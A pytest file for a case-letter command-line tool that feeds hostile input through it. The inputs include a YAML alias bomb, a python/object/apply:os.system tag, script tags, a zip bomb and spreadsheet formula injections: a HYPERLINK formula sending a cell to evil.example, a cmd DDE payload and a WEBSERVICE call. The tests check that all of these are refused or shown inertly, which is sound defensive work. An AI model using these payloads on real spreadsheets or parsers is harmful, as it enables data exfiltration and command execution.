"""Hostile input: whatever a case file holds, the result is a letter or a clear error.

Never a traceback, a hang, or a stray file. Case files come from families and from charities'
caseworkers, and may be damaged, mis-saved, or written to break things; each test here feeds one
kind of bad input through the real command and checks what the user sees.
"""

from __future__ import annotations

import copy
import io
import json
import tracemalloc
import zipfile
from collections.abc import Iterator
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import docx
import pytest
import yaml
from click.testing import CliRunner, Result
from markdown_it import MarkdownIt

from cli import main
from letters.case.model import clean_text
from letters.case.validate import MAX_CASE_BYTES, MAX_NESTING, case_from_data, load_case
from letters.compose.request import make_letter
from letters.errors import CaseError

from .conftest import MINIMAL, TODAY, write_case

# --------------------------------------------------------------------------------------------
# Running the command


def _render(runner: CliRunner, case: Path, out: Path) -> Result:
    """Render ``case`` to ``out``; check the rules every outcome must keep."""
    before = sorted(p.name for p in case.parent.iterdir())
    result = runner.invoke(main, ["render", str(case), "-o", str(out)])
    assert "Traceback" not in result.output
    assert result.exception is None or isinstance(result.exception, SystemExit)
    assert "unexpected problem" not in result.output  # the CLI's message for a bug
    if result.exit_code != 0:
        assert result.exit_code == 1
        assert result.output.startswith("Error: ")
        assert sorted(p.name for p in case.parent.iterdir()) == before  # no stray file
    return result


def _error(runner: CliRunner, tmp_path: Path, data: bytes, name: str = "case.yaml") -> str:
    case = tmp_path / name
    case.write_bytes(data)
    result = _render(runner, case, tmp_path / "letter.md")
    assert result.exit_code == 1, result.output
    return result.output


# --------------------------------------------------------------------------------------------
# Files that are not case files


@pytest.mark.parametrize(("data", "expected"), [
    (b"sender:\n  name: [Tom Green\nchildren: []\n",
     "  - line 3: this is not valid YAML (column 9): a bracket [ or { is opened but not closed"),
    (b"sender:\n\tname: Tom Green\n",
     "  - line 2: this is not valid YAML (column 1): a tab is used to indent this line; YAML "
     "needs spaces."),
    (b"grounds:\n  complaint:\n    summary: Visits: none since May\n",
     "  - line 3: this is not valid YAML (column 20): a colon (:) appears where a new field "
     "cannot start. If a value contains a colon followed by a space, put the whole value in "
     "quotes"),
    (b'sender:\n  name: "Tom Green\n',
     "  - line 3: this is not valid YAML (column 1): a quotation mark is opened but not closed."),
], ids=["bracket", "tab", "colon", "quote"])
def test_malformed_yaml_in_swletters_words(runner: CliRunner, tmp_path: Path, data: bytes,
                                           expected: str) -> None:
    output = _error(runner, tmp_path, data)
    assert output.splitlines()[1].startswith(expected)


def test_malformed_json(runner: CliRunner, tmp_path: Path) -> None:
    output = _error(runner, tmp_path, b'{"sender": {"name": "Tom"},\n}', name="case.json")
    assert output.splitlines()[1] == (
        "  - line 2: this is not valid JSON (column 1). Check for a missing comma between fields, "
        "a comma after the last one, a name without double quotes, or a quotation mark or "
        'bracket that is not closed. For example: {"sender": {"name": "Jane Doe"}}')


@pytest.mark.parametrize("data", [b"", b"  \n\n\t\n"], ids=["empty", "blank"])
def test_empty_file(runner: CliRunner, tmp_path: Path, data: bytes) -> None:
    assert _error(runner, tmp_path, data).splitlines()[1].startswith("  - the file is empty.")


def test_binary_file(runner: CliRunner, tmp_path: Path) -> None:
    output = _error(runner, tmp_path, bytes(range(256)) * 4)
    assert output.splitlines()[1].startswith("  - this is not a text file.")


def test_non_utf8_file_names_the_line(runner: CliRunner, tmp_path: Path) -> None:
    output = _error(runner, tmp_path, MINIMAL.replace("Tom Green", "Tóm Green").encode("cp1252"))
    assert output.splitlines()[1] == ("  - line 3: the file is not UTF-8 text. Save it again as "
                                      "UTF-8 (in most editors: Save As, Encoding: UTF-8).")


def test_utf16_file_says_how_to_save_it(runner: CliRunner, tmp_path: Path) -> None:
    output = _error(runner, tmp_path, MINIMAL.encode("utf-16"))
    assert output.splitlines()[1] == ("  - the file is saved as UTF-16 text. Save it again as "
                                      "UTF-8 (in most editors: Save As, Encoding: UTF-8).")


@pytest.mark.parametrize(("name", "data"), [
    ("bom.yaml", b"\xef\xbb\xbf" + MINIMAL.encode()),
    ("crlf.yaml", MINIMAL.replace("\n", "\r\n").encode()),
    ("cr.yaml", MINIMAL.replace("\n", "\r").encode()),
    ("bom-crlf.json", b"\xef\xbb\xbf" + json.dumps(yaml.safe_load(MINIMAL), default=str,
                                                    indent=1).replace("\n", "\r\n").encode()),
], ids=["bom", "crlf", "cr", "bom-crlf-json"])
def test_bom_and_line_ends_give_the_same_letter(runner: CliRunner, tmp_path: Path, name: str,
                                                data: bytes) -> None:
    plain = write_case(tmp_path, MINIMAL, name="plain.yaml")
    odd = tmp_path / name
    odd.write_bytes(data)
    assert _render(runner, plain, tmp_path / "plain.md").exit_code == 0
    assert _render(runner, odd, tmp_path / "odd.md").exit_code == 0
    assert (tmp_path / "odd.md").read_text("utf-8") == (tmp_path / "plain.md").read_text("utf-8")


def test_duplicate_yaml_keys_are_an_error(runner: CliRunner, tmp_path: Path) -> None:
    text = MINIMAL.replace("  name: Karen White\n", "  name: Karen White\n  name: Kay White\n")
    output = _error(runner, tmp_path, text.encode())
    assert output.splitlines()[1] == ('  - line 10: "name" appears more than once in the same '
                                      "place; the second would silently replace the first. "
                                      "Keep one.")


def test_duplicate_json_keys_are_an_error(runner: CliRunner, tmp_path: Path) -> None:
    output = _error(runner, tmp_path, b'{"date": "2026-11-23", "date": "2026-11-24"}',
                    name="case.json")
    assert output.splitlines()[1] == ('  - "date" appears more than once in the same object; '
                                      "the second would silently replace the first. Keep one.")


BILLION_LAUGHS = "\n".join(
    ['a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
    + [f"{x}: &{x} [{', '.join([f'*{p}'] * 9)}]"
       for p, x in zip("abcdefgh", "bcdefghi", strict=True)]
) + "\n"


def test_billion_laughs_is_refused_with_memory_bounded(runner: CliRunner, tmp_path: Path) -> None:
    case = write_case(tmp_path, BILLION_LAUGHS)
    tracemalloc.start()
    try:
        with pytest.raises(CaseError) as err:
            load_case(case)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    # Expanded, the nine levels would be 387 million strings; refused, it costs next to nothing.
    assert peak < 5 * 1024 * 1024
    assert err.value.problems[0].describe(with_file=False) == (
        "line 2: aliases (*name) are not allowed in a case file.")
    assert "aliases (*name) are not allowed" in _error(runner, tmp_path, BILLION_LAUGHS.encode())


def test_oversized_file_is_refused_unread_with_the_limit(runner: CliRunner, tmp_path: Path) -> None:
    case = tmp_path / "case.yaml"
    with case.open("wb") as fh:
        fh.write(MINIMAL.encode())
        fh.write(b"#" * (MAX_CASE_BYTES + 1 - len(MINIMAL)))
    tracemalloc.start()
    try:
        with pytest.raises(CaseError):
            load_case(case)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert peak < 256 * 1024  # the size is checked before a byte is read
    output = _render(runner, case, tmp_path / "letter.md").output
    assert output.splitlines()[1] == ("  - the file is 2,097,153 bytes; a case file may be at "
                                      "most 2,097,152 bytes (2 MiB). Is this the right file?")


@pytest.mark.parametrize(("name", "data"), [
    ("flow.yaml", "a: " + "[" * 50_000 + "]" * 50_000),
    ("block.yaml", "".join(" " * i + "- \n" for i in range(MAX_NESTING + 5))),
    ("deep.json", "[" * 50_000 + "]" * 50_000),
], ids=["flow", "block", "json"])
def test_deep_nesting_is_refused(runner: CliRunner, tmp_path: Path, name: str, data: str) -> None:
    # libyaml's C composer would crash the whole process on the first one, not raise.
    output = _error(runner, tmp_path, data.encode(), name=name)
    assert "nested" in output.splitlines()[1]
    assert "deep" in output.splitlines()[1]


# Nested by indentation, so a YAML reader (not a count of brackets) finds the depth.
_DEEP_BLOCK = "".join(" " * i + "- \n" for i in range(150))
_TOO_DEEP = ("lists or fields are nested more than 100 levels deep; a case file needs only a "
             "few. Is this the right file?")


def test_deep_nesting_message_with_a_yaml_reader_that_has_no_limit(
        runner: CliRunner, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    # PyYAML's pure-Python reader (and libyaml before PyYAML 6.0.4) has no nesting limit.
    real_parse = yaml.parse
    monkeypatch.setattr(yaml, "parse", lambda text, Loader: real_parse(text, yaml.SafeLoader))
    output = _error(runner, tmp_path, _DEEP_BLOCK.encode())
    assert output.splitlines()[1] == f"  - line 101: {_TOO_DEEP}"


def test_deep_nesting_message_with_a_yaml_reader_that_gives_up_first(
        runner: CliRunner, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    # A reader with a lower limit of its own than swletter's (libyaml in PyYAML 6.0.4 stops at
    # 1,000) is answered in swletter's words, never the library's.
    real_parse = yaml.parse

    def parse_until_40_deep(text: str, Loader: Any) -> Iterator[yaml.Event]:
        depth = 0
        for event in real_parse(text, Loader):
            depth += isinstance(event, yaml.CollectionStartEvent)
            if depth == 40:
                raise yaml.scanner.ScannerError("a library's context", event.start_mark,
                                                "a library's own words", event.start_mark)
            yield event

    monkeypatch.setattr(yaml, "parse", parse_until_40_deep)
    output = _error(runner, tmp_path, _DEEP_BLOCK.encode())
    assert output.splitlines()[1] == f"  - line 39: {_TOO_DEEP}"
    assert "library" not in output


def test_a_file_a_little_deeper_than_usual_is_still_read(tmp_path: Path) -> None:
    # Nesting well below the limit, in the shapes a real file uses, is read as usual.
    nested = "x: " + "[" * 60 + "]" * 60
    block = "".join(" " * (2 * i) + f"k{i}:\n" for i in range(60)) + " " * 120 + "k: v\n"
    for text in (nested, block):
        path = tmp_path / "case.yaml"
        path.write_text(MINIMAL + text, encoding="utf-8")
        with pytest.raises(CaseError) as caught:
            load_case(path)
        assert "nested" not in str(caught.value)
        assert any(f'"{key}" is not a field' in str(caught.value) for key in ("x", "k0"))


def test_a_number_thousands_of_digits_long(runner: CliRunner, tmp_path: Path) -> None:
    data = MINIMAL + 'response_within_working_days: "' + "9" * 5000 + '"\n'
    assert _error(runner, tmp_path, data.encode()).splitlines()[1] == (
        "  - line 15, response_within_working_days: expected a whole number, not text. For "
        "example: response_within_working_days: 10")
    output = _error(runner, tmp_path, b'{"response_within_working_days": ' + b"9" * 5000 + b"}",
                    name="case.json")
    assert output.splitlines()[1] == ("  - this JSON holds a number thousands of digits long; "
                                      "no field of a case file needs one.")


@pytest.mark.parametrize("data", [
    b"? [a, b]\n: 1\n",
    b"? {a: 1}\n: 1\n",
    b"!!python/object/apply:os.system ['echo hi']\n",
    b"sender: !!binary aGVsbG8=\n",
    b"sender: !!set {a, b}\n",
    b"- just\n- a list\n",
    b"just a sentence\n",
    b"42\n",
    b"~\n",
])
def test_yaml_that_is_not_a_case(runner: CliRunner, tmp_path: Path, data: bytes) -> None:
    _error(runner, tmp_path, data)


# --------------------------------------------------------------------------------------------
# Wrong types everywhere

FULL = yaml.safe_load((Path(__file__).resolve().parents[2] / "shared/examples/case-full.yaml")
                      .read_text(encoding="utf-8"))
WRONG = [42, 1.5, True, None, "text", [], ["x", 1], {}, {"a": "b"}, [{"a": 1}]]


def _positions(data: Any, path: tuple[Any, ...] = ()) -> Iterator[tuple[Any, ...]]:
    """Every place in ``data``: each mapping value and list item, nested or not."""
    if isinstance(data, dict):
        for key, value in data.items():
            yield (*path, key)
            yield from _positions(value, (*path, key))
    elif isinstance(data, list):
        for index, value in enumerate(data):
            yield (*path, index)
            yield from _positions(value, (*path, index))


def _replaced(path: tuple[Any, ...], value: Any) -> dict[str, Any]:
    data = copy.deepcopy(FULL)
    here = data
    for part in path[:-1]:
        here = here[part]
    here[path[-1]] = value
    return data


@pytest.mark.parametrize("path", list(_positions(FULL)), ids=lambda p: ".".join(map(str, p)))
def test_wrong_types_anywhere_give_a_case_or_a_clear_error(path: tuple[Any, ...]) -> None:
    for value in WRONG:
        try:
            case_from_data(_replaced(path, value), source="case.yaml", base_dir="/nonexistent")
        except CaseError as err:
            assert err.problems
            for problem in err.problems:
                assert problem.path or problem.message.startswith("a case file is")


@pytest.mark.parametrize(("yaml_text", "expected"), [
    ('{"sender": {"name": 42}}', "sender.name: expected text here, not the number 42 (put text "
                                 "in quotes)."),
    ("sender:\n  name: {first: Tom}\n", "sender.name: expected text here, not a set of fields."),
    ("sender: [Tom Green]\n", "sender: expected a set of fields (name, relationship, address, "
                              "email, phone, keep_relationship), not a list."),
    ("children:\n  name: Mia Green\n", 'children: expected a list (each item starting with "- "), '
                                       "not a set of fields."),
    ("grounds: [communication_breakdown]\n", "grounds: expected a set of grounds, not a list."),
    ("date: true\n", "date: expected a date such as 2026-04-03 or 3 April 2026, not true "
                    "(yes/no)."),
])
def test_wrong_type_messages(tmp_path: Path, yaml_text: str, expected: str) -> None:
    name = "case.json" if yaml_text.startswith("{") else "case.yaml"
    with pytest.raises(CaseError) as err:
        load_case(write_case(tmp_path, yaml_text, name=name))
    messages = [f"{p.path}: {p.message}" for p in err.value.problems]
    assert expected in messages


# --------------------------------------------------------------------------------------------
# Hostile text in every field

HOSTILE = [
    "{{ 7*7 }} {% raw %}x{% endraw %} {# c #} ${x} {0} {name!r} %s %(x)s %d",
    "*Bold* _it_ __u__ ***b*** ~~s~~ `code` ``x`` \\* \\",
    "<script>alert(1)</script> <b>b</b> <!-- signature --> <!-- page-break --> ]]> </w:t>",
    "# heading",
    "1. list",
    "2) list",
    "> quote",
    "- item",
    "+ item",
    "=== setext",
    "---",
    "| a | b |",
    "[link](http://example.com) ![img](x.png) <http://example.com> www.example.com [x]: /u",
    "&amp; &copy &#42; &#x2a; &lt;tag&gt; & &&",
    "tab\there\x00nul\x01\x08\x0b\x0c\x1b[31m\x7f\x85\x9f end",
    "right\u202eto\u202dleft\u2066iso\u2069late \u200f",
    "emoji 😀 👨‍👩‍👧 🇬🇧 e\u0301 ﷽ \u2028 \u00a0 \ufeff",
    "Zoë O’Brien-Ñúñez",
    "\\",
    "a\\",
]

# Fields a letter does not print (the manager's email) and fields that must match others.
NOT_PRINTED = {("recipient", "email")}
NOT_FREE_TEXT = {"id", "type", "file", "jurisdiction", "child", "evidence", "date", "made_on",
                 "date_of_birth", "allocated_since", "response_within_working_days"}


def _text_fields(data: Any, path: tuple[Any, ...] = ()) -> Iterator[tuple[Any, ...]]:
    if isinstance(data, dict):
        for key, value in data.items():
            if key not in NOT_FREE_TEXT:
                yield from _text_fields(value, (*path, key))
    elif isinstance(data, list):
        for index, value in enumerate(data):
            yield from _text_fields(value, (*path, index))
    elif isinstance(data, str) and path not in NOT_PRINTED:
        yield path


TEXT_FIELDS = list(_text_fields(FULL))


def hostile_case(text: str, fields: list[tuple[Any, ...]] = TEXT_FIELDS,
                 ) -> tuple[dict[str, Any], dict[tuple[Any, ...], str]]:
    """The full example with ``text`` (and a marker naming the field) in every text field."""
    data = copy.deepcopy(FULL)
    typed = {}
    for number, path in enumerate(fields):
        here = data
        for part in path[:-1]:
            here = here[part]
        here[path[-1]] = typed[path] = f"{text} F{number}"
    data["grounds"]["child_not_engaging"]["child"] = data["children"][0]["name"]
    return data, typed


class _Text(HTMLParser):
    """The text a browser shows, and the tags it builds."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.parts: list[str] = []
        self.tags: set[str] = set()

    def handle_starttag(self, tag: str, attrs: Any) -> None:
        self.tags.add(tag)

    def handle_data(self, data: str) -> None:
        self.parts.append(data)


def html_text(page: str) -> tuple[str, set[str]]:
    parser = _Text()
    parser.feed(page)
    parser.close()
    return " ".join("".join(parser.parts).split()), parser.tags


def docx_text(data: bytes) -> str:
    document = docx.Document(io.BytesIO(data))
    return " ".join(" ".join(p.text for p in document.paragraphs).split())


#: The only elements a letter's HTML may contain: no links, images, scripts or raw HTML.
# "div": the room to sign that <!-- signature --> stands for.
LETTER_TAGS = {"html", "head", "meta", "title", "style", "body", "p", "h1", "h2", "h3", "strong",
               "em", "br", "ol", "ul", "li", "div"}


def assert_shown_literally(rendered: Any, typed: dict[tuple[Any, ...], str], *,
                           first_letter_lowered: bool = False) -> None:
    """Each typed string (minus control characters) reads back from the .md, .html and .docx.

    ``first_letter_lowered``: a phrase used inside a sentence may have its first letter lowered
    ("Missed visits" → "… about missed visits"), by design; nothing else may change."""
    markdown_seen, markdown_tags = html_text(MarkdownIt("commonmark").render(rendered.markdown))
    html_seen, html_tags = html_text(rendered.to_bytes("html").decode("utf-8"))
    docx_seen = docx_text(rendered.to_bytes("docx"))
    assert markdown_tags <= LETTER_TAGS
    assert html_tags <= LETTER_TAGS
    for path, text in typed.items():
        shown = " ".join(clean_text(text).split())
        forms = {shown, shown[:1].lower() + shown[1:]} if first_letter_lowered else {shown}
        for reader, seen in (("md", markdown_seen), ("html", html_seen), ("docx", docx_seen)):
            assert any(f in seen for f in forms), f"{reader} lost {'.'.join(map(str, path))}"


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_in_every_field_is_shown_literally(text: str) -> None:
    data, typed = hostile_case(text)
    case = case_from_data(data, source="case.yaml", base_dir=str(Path(__file__).parents[2] /
                                                                 "shared" / "examples"))
    assert_shown_literally(make_letter(case, today=TODAY), typed)


def test_control_characters_and_overrides_are_removed() -> None:
    assert clean_text("a\x00b\x1bc\x7fd\x85e\u202ef\u2066g\ud800h") == "abcdefgh"
    data, _ = hostile_case("x\u202eevil\x0bnul\x00")
    case = case_from_data(data, base_dir=str(Path(__file__).parents[2] / "shared" / "examples"))
    letter = make_letter(case, today=TODAY)
    for fmt in ("md", "html", "docx"):
        body = letter.to_bytes(fmt)
        if fmt == "docx":
            with zipfile.ZipFile(io.BytesIO(body)) as zf:
                body = zf.read("word/document.xml")
        for bad in ("\u202e", "\x0b", "\x00"):
            assert bad.encode() not in body


def test_20000_character_fields(tmp_path: Path) -> None:
    # The worst case for Markdown readers: every character needs escaping. A name, an address
    # line, a ground's text and an evidence description (a name is printed several times).
    fields = [("sender", "name"), ("sender", "address", 0),
              ("grounds", "communication_breakdown", "summary"), ("evidence", 0, "description")]
    data, typed = hostile_case(("*_[<`\\" * 3334)[:20_000], fields)
    case = case_from_data(data, base_dir=str(Path(__file__).parents[2] / "shared" / "examples"))
    assert_shown_literally(make_letter(case, today=TODAY), typed)


def test_hostile_text_through_the_command(runner: CliRunner, tmp_path: Path) -> None:
    data, typed = hostile_case(" ".join(HOSTILE))
    for item in data["evidence"]:
        item.pop("file", None)
    case = tmp_path / "case.json"
    case.write_text(json.dumps(data, default=str), encoding="utf-8")
    for fmt in ("md", "html", "docx"):
        result = _render(runner, case, tmp_path / f"letter.{fmt}")
        assert result.exit_code == 0, result.output
    docx_seen = docx_text((tmp_path / "letter.docx").read_bytes())
    html_seen, tags = html_text((tmp_path / "letter.html").read_text("utf-8"))
    assert tags <= LETTER_TAGS
    for text in typed.values():
        shown = " ".join(clean_text(text).split())
        assert shown in docx_seen
        assert shown in html_seen


# --------------------------------------------------------------------------------------------
# Spreadsheets with formulas

#: Text that a spreadsheet would run as a formula once the CSV is opened in it, but which does
#: not start with "=": swletter takes it as the text it is, and shows it as typed.
FORMULA_LIKE = {
    "sender_name": "+SUM(A1:A9)",
    "recipient_name": "-2+3",
    "worker_name": "@SUM(1)",
}
#: Formulas: refused in a letter, the cell named.
FORMULAS = {
    "child_1_name": '=HYPERLINK("http://evil.example/?d="&B2,"Sam Doe")',
    "communication_breakdown_summary": "=1+1",
}


def _read_csv(path: Path) -> list[list[str]]:
    import csv

    with path.open(encoding="utf-8-sig", newline="") as fh:
        return list(csv.reader(fh))


def test_spreadsheet_formulas_are_refused_formula_like_text_is_text_and_the_report_is_inert(
        runner: CliRunner, tmp_path: Path) -> None:
    import csv

    from letters.bulk.report import REPORT_HEADERS

    assert runner.invoke(main, ["bulk-template", str(tmp_path / "cases.csv")]).exit_code == 0
    cases_csv, evidence_csv = tmp_path / "cases.csv", tmp_path / "cases-evidence.csv"
    header, notes, example = _read_csv(cases_csv)
    good = dict(zip(header, example, strict=True)) | FORMULA_LIKE | {
        "case_id": "=cmd|' /C calc'!A0"}
    bad = dict(good, case_id="=2+2") | FORMULAS
    with cases_csv.open("w", encoding="utf-8", newline="") as fh:
        writer = csv.writer(fh)
        writer.writerows([header, notes, [good[h] for h in header], [bad[h] for h in header]])
    evidence = _read_csv(evidence_csv)
    rows = [evidence[0], evidence[1]]
    for row in evidence[2:]:
        rows.append([good["case_id"], *row[1:]])
        rows.append([bad["case_id"], *row[1:]])
    rows[3][4] = "=WEBSERVICE(\"http://evil.example\")"  # an evidence description of the bad row
    with evidence_csv.open("w", encoding="utf-8", newline="") as fh:
        csv.writer(fh).writerows(rows)

    report = tmp_path / "report.csv"
    result = runner.invoke(main, ["bulk", str(cases_csv), "--evidence", str(evidence_csv),
                                  "--out", str(tmp_path / "out"), "--format", "md",
                                  "--report", str(report)])
    assert result.exit_code == 1, result.output  # the bad row failed; the good one is written
    assert "Traceback" not in result.output
    (letter,) = (tmp_path / "out").glob("*.md")
    shown, tags = html_text(MarkdownIt("commonmark").render(letter.read_text("utf-8")))
    assert tags <= LETTER_TAGS  # no link was made
    for text in FORMULA_LIKE.values():
        assert text in shown
    refused = "the cell holds a formula. swletter never calculates formulas"
    for place in ("cases.csv, row 4, column child_1_name",
                  "cases.csv, row 4, column communication_breakdown_summary",
                  "cases-evidence.csv, row 4, column description"):
        assert f"  - {place}: {refused}" in result.stderr
    cells = [cell for row in _read_csv(report) for cell in row]
    assert len(cells) == 3 * len(REPORT_HEADERS)
    assert [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))] == []


def test_workbook_that_unpacks_to_gigabytes_is_refused_unread(
        runner: CliRunner, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    import zipfile

    import letters.bulk.tables

    # A "zip bomb": a small file that unpacks to far more than any workbook of cases. The limit
    # is lowered for the test so the bomb can be small too.
    monkeypatch.setattr(letters.bulk.tables, "MAX_UNPACKED_SHEET_BYTES", 1024 * 1024)
    book = tmp_path / "cases.xlsx"
    with zipfile.ZipFile(book, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/worksheets/sheet1.xml", b" " * (2 * 1024 * 1024))
    assert book.stat().st_size < 10 * 1024
    result = runner.invoke(main, ["bulk", str(book), "--out", str(tmp_path / "out")])
    assert result.exit_code == 1
    assert "Traceback" not in result.output
    assert ("cases.xlsx: this workbook unpacks to 2,097,152 bytes; a spreadsheet of cases may "
            "unpack to at most 1,048,576 bytes.") in result.output
    assert list((tmp_path / "out").glob("*.docx")) == []


def test_oversized_spreadsheet_is_refused_unread(runner: CliRunner, tmp_path: Path) -> None:
    from letters.bulk.tables import MAX_SHEET_BYTES

    sheet = tmp_path / "cases.csv"
    with sheet.open("wb") as fh:
        fh.truncate(MAX_SHEET_BYTES + 1)  # sparse: nothing written, nothing to read
    result = runner.invoke(main, ["bulk", str(sheet), "--out", str(tmp_path / "out")])
    assert result.exit_code == 1
    assert "Traceback" not in result.output
    assert f"{MAX_SHEET_BYTES:,} bytes" in result.output
    assert list((tmp_path / "out").glob("*.docx")) == []
